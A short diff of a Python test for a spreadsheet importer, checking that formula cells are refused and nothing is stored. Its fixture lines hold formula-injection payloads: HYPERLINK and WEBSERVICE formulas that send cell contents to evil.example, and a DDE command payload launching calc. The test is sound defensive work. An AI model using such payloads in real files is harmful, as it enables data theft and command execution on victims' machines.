@@ -150,7 +150,7 @@ def test_formula_cells_are_refused_and_nothing_is_stored(db, staff, template):
         hh, nd = wb[imports.HOUSEHOLD_SHEET], wb[imports.NEED_SHEET]
         hh["A2"] = '=HYPERLINK("http://evil.example/?leak="&B2,"王小明")'  # a real formula cell
         hh["D3"] = "=1+1"
-        hh["K4"] = ArrayFormula("K4", "=SUM(I2:I4)")
+        hh["J4"] = ArrayFormula("J4", "=SUM(I2:I4)")  # the tags column
         nd["D2"] = '=WEBSERVICE("http://evil.example/"&A2)'
         nd["E3"] = "=cmd|' /C calc'!A0"
 
